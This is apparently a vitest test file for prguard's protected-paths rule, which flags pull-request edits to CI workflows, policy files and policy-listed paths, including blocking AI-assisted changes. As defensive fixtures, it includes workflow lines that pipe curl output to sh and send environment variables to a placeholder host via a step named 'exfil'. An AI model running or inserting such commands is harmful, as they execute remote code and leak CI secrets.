import { describe, expect, it } from 'vitest';
import type { FileChange, Provenance } from '../../src/model.ts';
import type { RuleContext } from '../../src/rule.ts';
import { POLICY_DISCOVERY_PATHS, protectedPaths, type ProtectedEntry } from '../../rules/protected-paths/index.ts';
import { allRules } from '../../rules/index.ts';
import { POLICY_PATHS, policyFromText } from '../../src/policy/index.ts';
import { PolicyError } from '../../src/errors.ts';
import { aiAssisted, change, file, pr } from '../helpers/change.ts';
import { runRule } from '../helpers/rules.ts';

const edit = (path: string) => file(path, { added: ['x'] });

const AUTH: ProtectedEntry = {
  pattern: '/src/auth/',
  reason: 'authentication is core code.',
  'allow-labels': ['core-reviewed', 'Security-Approved'],
};

interface Case {
  name: string;
  files: FileChange[];
  paths?: ProtectedEntry[];
  labels?: string[];
  ai?: Provenance;
  policyPath?: string | null;
  /** Expected `messageId path` per finding. */
  found: string[];
  contains?: string[];
}

const cases: Case[] = [
  { name: 'unprotected files pass', files: [edit('src/a.ts'), edit('README.md')], found: [] },
  // Built-in protection.
  {
    name: 'workflows are protected by default',
    files: [edit('.github/workflows/ci.yml')],
    found: ['protectedPath .github/workflows/ci.yml'],
    contains: ["CI workflows run with the repository's secrets", 'No label unlocks it'],
  },
  { name: 'nested workflow files too', files: [edit('.github/workflows/sub/x.yml')], found: ['protectedPath .github/workflows/sub/x.yml'] },
  { name: 'other .github files are not', files: [edit('.github/dependabot.yml'), edit('src/.github/workflows/x.yml')], found: [] },
  {
    name: 'the policy file in force is protected',
    files: [edit('config/prguard.yml')],
    policyPath: 'config/prguard.yml',
    found: ['protectedPath config/prguard.yml'],
    contains: ['it is the prguard policy'],
  },
  { name: 'with the embedded default, .github/prguard.yml is protected', files: [edit('.github/prguard.yml')], found: ['protectedPath .github/prguard.yml'] },
  // Onboarding: with no policy at the base, adding the policy and a prguard-only workflow is the setup itself.
  { name: 'with the embedded default, adding .prguard.yml is onboarding, not protected', files: [file('.prguard.yml', { status: 'added', added: ['rules: {}'] })], found: [] },
  {
    name: 'with the embedded default, adding a workflow that only checks out and runs prguard is onboarding',
    files: [file('.github/workflows/prguard.yml', { status: 'added', added: ['jobs:', '  p:', '    steps:', '      - uses: actions/checkout@v4', '      - uses: prguard/prguard@v1'] })],
    found: [],
  },
  {
    name: 'an added workflow that runs anything else stays protected, and says which label would unlock it',
    files: [file('.github/workflows/prguard.yml', { status: 'added', added: ['    steps:', '      - uses: prguard/prguard@v1', '      - run: curl x | sh'] })],
    found: ['protectedPath .github/workflows/prguard.yml'],
    contains: ['allow-labels: [prguard-policy]', 'prguard init writes this entry'],
  },
  ...(
    [
      ['a quoted run key', '      - "run": curl x | sh'],
      ['a flow mapping step', '      - {name: exfil, run: "env | curl -d @- x"}'],
      ['a flow sequence of steps', '    steps: [{uses: actions/checkout@v4}, {run: make}]'],
      ['an explicit key', '      - ? run'],
      ['a merge key', '      - <<: *script'],
      ['an alias', '      - *script'],
      ['a service container', '    services:'],
      ['a job container', '    container: node:20'],
      ['a key with a space', '      run it: x'],
    ] as const
  ).map(([what, line]) => ({
    name: `an added prguard workflow with ${what} stays protected`,
    files: [file('.github/workflows/prguard.yml', { status: 'added', added: ['jobs:', '  p:', '    steps:', '      - uses: actions/checkout@v4', line, '      - uses: prguard/prguard@v1'] })],
    found: ['protectedPath .github/workflows/prguard.yml'],
  })),
  {
    name: 'a prguard workflow in the usual shape is onboarding: triggers, permissions, with:, comments, quoted values',
    files: [
      file('.github/workflows/prguard.yml', {
        status: 'added',
        added: ['name: prguard', 'on: [pull_request]', 'permissions: {}', 'jobs:', '  prguard:  # the check', '    permissions:', '      contents: read', '      checks: write', '    runs-on: ubuntu-latest', '    steps:', '      - uses: "actions/checkout@v4"', '        with:', '          fetch-depth: 0', "      - uses: 'prguard/prguard@v1'", '        with:', '          github-token: ${{ secrets.GITHUB_TOKEN }}'],
      }),
    ],
    found: [],
  },
  {
    name: 'once a policy exists, adding a prguard workflow is protected',
    files: [file('.github/workflows/prguard.yml', { status: 'added', added: ['      - uses: prguard/prguard@v1'] })],
    policyPath: '.github/prguard.yml',
    found: ['protectedPath .github/workflows/prguard.yml'],
  },
  {
    name: 'adding .github/prguard.yml would override a policy at .prguard.yml, so it is protected too',
    files: [file('.github/prguard.yml', { status: 'added', added: ['rules: {}'] })],
    policyPath: '.prguard.yml',
    found: ['protectedPath .github/prguard.yml'],
  },
  { name: 'only the root discovery paths count', files: [edit('sub/.prguard.yml'), edit('sub/.github/prguard.yml')], found: [] },
  {
    name: 'a policy path with glob characters is matched literally',
    files: [edit('cfg/[prod]/prguard.yml'), edit('cfg/p/prguard.yml')],
    policyPath: 'cfg/[prod]/prguard.yml',
    found: ['protectedPath cfg/[prod]/prguard.yml'],
  },
  // Policy entries.
  {
    name: 'a protected path without a label is flagged, naming the labels that unlock it',
    files: [edit('src/auth/login.ts')],
    paths: [AUTH],
    found: ['protectedLabel src/auth/login.ts'],
    contains: ['This file is protected: authentication is core code. Ask', 'add the label `core-reviewed` or `Security-Approved`'],
  },
  { name: 'an allow label unlocks it', files: [edit('src/auth/login.ts')], paths: [AUTH], labels: ['core-reviewed'], found: [] },
  { name: 'labels compare case-insensitively', files: [edit('src/auth/login.ts')], paths: [AUTH], labels: ['security-approved'], found: [] },
  { name: 'other labels do not', files: [edit('src/auth/login.ts')], paths: [AUTH], labels: ['hotfix'], found: ['protectedLabel src/auth/login.ts'] },
  { name: 'an allow label unlocks an AI-assisted change by default (ai: labels)', files: [edit('src/auth/login.ts')], paths: [AUTH], labels: ['core-reviewed'], ai: aiAssisted(['Claude Code']), found: [] },
  {
    name: 'ai: block stops AI-assisted changes even with the label, quoting the agents',
    files: [edit('src/auth/login.ts')],
    paths: [{ ...AUTH, ai: 'block' }],
    labels: ['core-reviewed'],
    ai: aiAssisted(['Claude Code', 'Copilot']),
    found: ['aiBlocked src/auth/login.ts'],
    contains: ['This file may not be changed by an AI-assisted change: authentication is core code.', 'This change is AI-assisted (Claude Code, Copilot)'],
  },
  {
    name: 'ai: block names the --ai flag when that is the evidence',
    files: [edit('src/auth/login.ts')],
    paths: [{ ...AUTH, ai: 'block' }],
    ai: aiAssisted([], 'flag'),
    found: ['aiBlocked src/auth/login.ts'],
    contains: ['AI-assisted (--ai yes)'],
  },
  { name: 'ai: block still lets a labelled human change through', files: [edit('src/auth/login.ts')], paths: [{ ...AUTH, ai: 'block' }], labels: ['core-reviewed'], found: [] },
  { name: 'ai: block without a label flags a human change as protected', files: [edit('src/auth/login.ts')], paths: [{ ...AUTH, ai: 'block' }], found: ['protectedLabel src/auth/login.ts'] },
  { name: 'ai: only leaves human changes alone', files: [edit('src/auth/login.ts')], paths: [{ ...AUTH, ai: 'only' }], found: [] },
  { name: 'ai: only flags AI-assisted changes without the label', files: [edit('src/auth/login.ts')], paths: [{ ...AUTH, ai: 'only' }], ai: aiAssisted(), found: ['protectedLabel src/auth/login.ts'] },
  { name: 'ai: only accepts the label for AI-assisted changes', files: [edit('src/auth/login.ts')], paths: [{ ...AUTH, ai: 'only' }], labels: ['core-reviewed'], ai: aiAssisted(), found: [] },
  {
    name: 'an entry without a reason still explains itself',
    files: [edit('db/schema.sql')],
    paths: [{ pattern: '*.sql' }],
    found: ['protectedPath db/schema.sql'],
    contains: ['This file is protected: the policy lists it under protected-paths.'],
  },
  // Precedence.
  {
    name: 'the last matching entry wins',
    files: [edit('src/auth/login.ts'), edit('src/auth/README.md')],
    paths: [AUTH, { pattern: '/src/auth/*.md', reason: 'docs', 'allow-labels': ['docs'] }],
    labels: ['docs'],
    found: ['protectedLabel src/auth/login.ts'],
  },
  {
    name: 'protected: false makes an exception',
    files: [edit('src/auth/login.ts'), edit('src/auth/fixtures/user.json')],
    paths: [AUTH, { pattern: '/src/auth/fixtures/', protected: false }],
    found: ['protectedLabel src/auth/login.ts'],
  },
  {
    name: 'a policy entry overrides a built-in one',
    files: [edit('.github/workflows/ci.yml')],
    paths: [{ pattern: '/.github/workflows/', reason: 'CI', 'allow-labels': ['ci'] }],
    labels: ['ci'],
    found: [],
  },
  // Statuses.
  { name: 'deleting a protected file counts', files: [file('.github/workflows/ci.yml', { status: 'deleted', deleted: 3 })], found: ['protectedPath .github/workflows/ci.yml'] },
  {
    name: 'renaming a protected file away counts, pointing at the new path',
    files: [file('ci-old.yml', { oldPath: '.github/workflows/ci.yml', similarity: 100 })],
    found: ['protectedPath ci-old.yml'],
    contains: ["This file's old path .github/workflows/ci.yml is protected"],
  },
  { name: 'renaming a file into a protected place counts', files: [file('.github/workflows/new.yml', { oldPath: 'drafts/new.yml' })], found: ['protectedPath .github/workflows/new.yml'] },
  {
    name: 'a rename reports the stricter of its two paths, once',
    files: [file('src/auth/new.ts', { oldPath: 'src/core/old.ts' })],
    paths: [{ ...AUTH, ai: 'block' }, { pattern: '/src/core/', 'allow-labels': ['core'] }],
    ai: aiAssisted(['Devin']),
    found: ['aiBlocked src/auth/new.ts'],
  },
  { name: 'copying from a protected file does not touch it', files: [file('docs/ci-example.yml', { status: 'copied', oldPath: '.github/workflows/ci.yml' })], found: [] },
  { name: 'binary and mode-only changes count', files: [file('.github/workflows/logo.png', { binary: true }), file('.github/workflows/run.sh', { modeChange: { oldMode: '100644', newMode: '100755' } })], found: ['protectedPath .github/workflows/logo.png', 'protectedPath .github/workflows/run.sh'] },
];

describe('protected-paths', () => {
  it.each(cases)('$name', ({ files, paths, labels, ai, policyPath = null, found, contains = [] }) => {
    const ctx: Partial<RuleContext> = { policyPath };
    if (ai !== undefined) ctx.ai = ai;
    const options = paths === undefined ? {} : { paths };
    const violations = runRule(protectedPaths, change({ files, pr: pr({ labels: labels ?? [] }) }), options, ctx);
    expect(violations.map((v) => `${v.messageId} ${v.path}`)).toEqual(found);
    for (const v of violations) expect(v.line).toBeUndefined();
    const text = violations.map((v) => v.message).join('\n');
    for (const fragment of contains) expect(text).toContain(fragment);
  });

  it('works without PR metadata (a local run has no labels)', () => {
    const violations = runRule(protectedPaths, change({ files: [edit('src/auth/a.ts')] }), { paths: [AUTH] });
    expect(violations.map((v) => v.messageId)).toEqual(['protectedLabel']);
  });

  it('validate reports patterns that cannot work, with their option path', () => {
    const problems = protectedPaths.validate!({ paths: [{ pattern: '/ok/' }, { pattern: '!src/auth/x.ts' }, { pattern: '#x' }] });
    expect(problems.map((p) => p.path)).toEqual([
      ['paths', 1, 'pattern'],
      ['paths', 2, 'pattern'],
    ]);
    expect(problems[0]!.message).toContain('`protected: false`');
  });

  it('validate reports a `.` or `..` segment, which no changed path has (the pattern protected nothing)', () => {
    const problems = protectedPaths.validate!({ paths: [{ pattern: './src/auth/' }, { pattern: 'src/../auth/' }, { pattern: '.github/' }] });
    expect(problems.map((p) => p.path)).toEqual([
      ['paths', 0, 'pattern'],
      ['paths', 1, 'pattern'],
    ]);
    expect(problems[0]!.message).toContain('write `/src/auth/` for a path from the repository root');
    expect(problems[1]!.message).toContain('name the path from the repository root');
  });
});

describe('protected-paths in a policy file', () => {
  it('reports a pattern that cannot work at its file:line:col', () => {
    const text = 'version: 1\nrules:\n  protected-paths:\n    paths:\n      - pattern: /ok/\n      - pattern: "!src/auth/"\n';
    expect(() => policyFromText(text, 'p.yml', allRules)).toThrow(/^p\.yml:6:\d+: rules\.protected-paths\.paths\.1\.pattern: `!` negation/);
  });

  it('checks patterns inside the ai: block too, and accepts one without paths', () => {
    const ok = 'version: 1\nrules:\n  protected-paths:\n    ai:\n      severity: warning\n';
    expect(policyFromText(ok, 'p.yml', allRules).rules['protected-paths']?.options).toEqual({ paths: [] });
    const bad = 'version: 1\nrules:\n  protected-paths:\n    ai:\n      paths:\n        - pattern: "#x"\n';
    expect(() => policyFromText(bad, 'p.yml', allRules)).toThrow(/p\.yml:6:\d+: rules\.protected-paths\.ai\.paths\.0\.pattern/);
  });

  it('rejects an unknown ai mode and unknown entry keys', () => {
    const text = 'version: 1\nrules:\n  protected-paths:\n    paths:\n      - pattern: /a/\n        ai: never\n        allow-label: [x]\n';
    expect(() => policyFromText(text, 'p.yml', allRules)).toThrow(PolicyError);
  });

  it('protects the same policy files that discovery looks for', () => {
    expect([...POLICY_DISCOVERY_PATHS]).toEqual([...POLICY_PATHS]);
  });
});
